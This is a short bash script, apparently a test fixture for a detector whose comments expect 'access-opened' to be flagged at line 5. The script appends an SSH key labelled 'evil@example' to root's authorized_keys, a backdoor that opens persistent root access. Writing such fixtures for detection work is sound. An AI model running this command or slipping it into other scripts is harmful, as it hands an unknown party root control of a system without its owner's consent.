#!/bin/bash
# shows: a key for root
# expect: access-opened at line 5
mkdir -p /root/.ssh
echo 'ssh-ed25519 AAAAC3Nza evil@example' >> /root/.ssh/authorized_keys
